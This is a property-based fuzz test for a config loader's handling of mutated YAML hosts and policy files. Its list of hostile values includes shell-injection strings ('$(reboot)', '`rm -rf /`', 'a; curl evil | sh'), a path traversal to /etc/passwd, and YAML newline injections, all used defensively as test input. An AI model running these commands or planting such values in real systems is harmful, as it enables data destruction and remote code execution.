// Hostile config, generated (a hand-edited file must fail clearly, not crash): the shipped hosts
// and policy files mutated in structure (wrong types, unicode, huge strings, unknown keys, missing
// fields, duplicated hosts) and in text (truncated, spliced, lines duplicated or dropped). Every
// case must end as a valid config or a ConfigError naming the file, the field and, when the field
// is in the file, its line: never a stack trace, never an unbounded message.
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import yaml from 'js-yaml';
import { describe, expect, it } from 'vitest';
import { ConfigError } from '../../src/config/errors.js';
import { loadCluster, loadPolicy } from '../../src/config/loader.js';
import { checkProperty } from '../helpers/fuzz.js';

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
type Mutation =
  | { op: 'set'; at: number; value: Json }
  | { op: 'delete'; at: number }
  | { op: 'add'; at: number; key: string; value: Json }
  | { op: 'duplicate'; at: number };
type TextEdit =
  | { op: 'truncate'; at: number }
  | { op: 'insert'; at: number; text: string }
  | { op: 'duplicate-line'; at: number }
  | { op: 'drop-line'; at: number };
interface Case {
  mutations: Mutation[];
  edits: TextEdit[];
}

/** Stands for a 100 KB string, so that saved regressions stay small files. */
const HUGE = '<100 KB of x>';
const expand = (v: Json): Json => (v === HUGE ? 'x'.repeat(100_000) : structuredClone(v));

const dir = mkdtempSync(join(tmpdir(), 'runbook-config-fuzz-'));
const seedOf = (name: string): Json =>
  yaml.load(readFileSync(join('config', name), 'utf8'), { schema: yaml.CORE_SCHEMA }) as Json;

const hostile = fc.oneof(
  fc.jsonValue({ maxDepth: 2 }) as fc.Arbitrary<Json>,
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.constantFrom<Json>(
    '$(reboot)',
    '`rm -rf /`',
    'a; curl evil | sh',
    '../../etc/passwd',
    '\u202eevil',
    'line\nbreak: injected',
    '100.64.0.2\n  injected: true',
    HUGE,
    -1,
    0,
    1e308,
    65536,
    '22',
    'true',
    [],
    {},
  ),
);

const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc.record({ op: fc.constant('set' as const), at: fc.nat(), value: hostile }),
  fc.record({ op: fc.constant('delete' as const), at: fc.nat() }),
  fc.record({
    op: fc.constant('add' as const),
    at: fc.nat(),
    key: fc.oneof(fc.string({ maxLength: 12 }), fc.constant(HUGE)),
    value: hostile,
  }),
  fc.record({ op: fc.constant('duplicate' as const), at: fc.nat() }),
);

const textEdit: fc.Arbitrary<TextEdit> = fc.oneof(
  fc.record({ op: fc.constant('truncate' as const), at: fc.nat() }),
  fc.record({ op: fc.constant('insert' as const), at: fc.nat(), text: fc.string({ unit: 'grapheme-ascii', maxLength: 8 }) }),
  fc.record({ op: fc.constant('duplicate-line' as const), at: fc.nat() }),
  fc.record({ op: fc.constant('drop-line' as const), at: fc.nat() }),
);

const cases: fc.Arbitrary<Case> = fc.record({
  mutations: fc.array(mutation, { minLength: 1, maxLength: 4 }),
  edits: fc.array(textEdit, { maxLength: 2 }),
});

/** Every container (object or array) in the document with the path that reaches it. */
function containers(doc: Json, path: (string | number)[] = []): { node: Json[] | { [k: string]: Json }; path: (string | number)[] }[] {
  if (doc === null || typeof doc !== 'object') return [];
  const own = { node: doc, path };
  const children = Array.isArray(doc)
    ? doc.flatMap((v, i) => containers(v, [...path, i]))
    : Object.entries(doc).flatMap(([k, v]) => containers(v, [...path, k]));
  return [own, ...children];
}

function setOwn(node: Json[] | { [k: string]: Json }, key: string | number, value: Json): void {
  // defineProperty: a generated "__proto__" key must become data, not a prototype.
  Object.defineProperty(node, key, { value, enumerable: true, writable: true, configurable: true });
}

function mutate(seed: Json, mutations: Mutation[]): Json {
  const doc = structuredClone(seed);
  for (const m of mutations) {
    const all = containers(doc);
    const { node } = all[m.at % all.length]!;
    const keys = Array.isArray(node) ? node.map((_, i) => i) : Object.keys(node);
    const key = keys.length > 0 ? keys[m.at % keys.length]! : undefined;
    if (m.op === 'add') setOwn(node, Array.isArray(node) ? node.length : (expand(m.key) as string), expand(m.value));
    else if (key === undefined) continue;
    else if (m.op === 'set') setOwn(node, key, expand(m.value));
    else if (m.op === 'delete') {
      if (Array.isArray(node)) node.splice(key as number, 1);
      else delete node[key as string];
    }
    else if (Array.isArray(node)) node.push(structuredClone(node[key as number]!));
  }
  return doc;
}

function edit(text: string, edits: TextEdit[]): string {
  for (const e of edits) {
    const lines = text.split('\n');
    if (e.op === 'truncate') text = text.slice(0, e.at % (text.length + 1));
    else if (e.op === 'insert') {
      const at = e.at % (text.length + 1);
      text = text.slice(0, at) + e.text + text.slice(at);
    } else {
      const i = e.at % lines.length;
      if (e.op === 'duplicate-line') lines.splice(i, 0, lines[i]!);
      else lines.splice(i, 1);
      text = lines.join('\n');
    }
  }
  return text;
}

/** The property: a valid config, or a ConfigError that names the file, field and line. */
function expectCleanOutcome(load: (file: string) => unknown, seed: Json, c: Case): 'valid' | 'refused' {
  const doc = mutate(seed, c.mutations);
  const text = edit(yaml.dump(doc, { lineWidth: -1 }), c.edits);
  const file = join(dir, 'config.yaml');
  writeFileSync(file, text);
  let parsed: unknown;
  try {
    load(file);
    return 'valid';
  } catch (err) {
    if (!(err instanceof ConfigError)) throw new Error(`not a ConfigError: ${(err as Error)?.stack ?? String(err)}`);
    expect(err.message).toContain(file);
    expect(err.problems.length).toBeGreaterThan(0);
    try {
      // What the loader read, not `text`: a truncation that splits a surrogate pair leaves a lone
      // surrogate, which js-yaml refuses in memory but the UTF-8 file holds as U+FFFD. Judged on
      // `text`, such a file counted as a syntax error owed a line, though the loader read it fine
      // and rightly named no line for the key the truncation had cut away.
      parsed = yaml.load(readFileSync(file, 'utf8'), { schema: yaml.CORE_SCHEMA });
    } catch {
      parsed = undefined; // a syntax error: its one problem carries the line js-yaml reported
    }
    for (const p of err.problems) {
      expect(typeof p.path).toBe('string');
      expect(p.message.length).toBeGreaterThan(0);
      // A hostile 100 KB value must not come back as a 100 KB error message.
      expect(p.message.length).toBeLessThanOrEqual(400);
      const top = p.path.split(/[.[]/)[0]!;
      const present = parsed !== null && typeof parsed === 'object' && top !== '' && Object.hasOwn(parsed, top);
      if (present || parsed === undefined) expect(p.line, `${p.path}: ${p.message}`).toBeTypeOf('number');
    }
    return 'refused';
  }
}

/** Runs the property and prints how the cases ended (a suite that only ever refuses proves little). */
async function fuzzConfig(target: string, load: (file: string) => unknown, seedFile: string): Promise<void> {
  const seed = seedOf(seedFile);
  const tally = { valid: 0, refused: 0 };
  const { runs } = await checkProperty(target, cases, (c) => {
    tally[expectCleanOutcome(load, seed, c)]++;
  });
  console.log(`${target}: ${runs} generated cases: ${tally.valid} valid, ${tally.refused} refused with a ConfigError`);
  expect(tally.valid).toBeGreaterThan(0);
  expect(tally.refused).toBeGreaterThan(0);
}

// Thousands of cases per target: minutes on a loaded machine, so no per-test deadline of 2 min.
describe('generated hostile config', { timeout: 900_000 }, () => {
  it('hosts file: every mutation ends valid or as a ConfigError with field and line', async () => {
    await fuzzConfig('config-hosts', loadCluster, 'distributed_hosts.yaml');
  });

  it('policy file: every mutation ends valid or as a ConfigError with field and line', async () => {
    await fuzzConfig('config-policy', loadPolicy, 'runbook.yaml');
  });
});
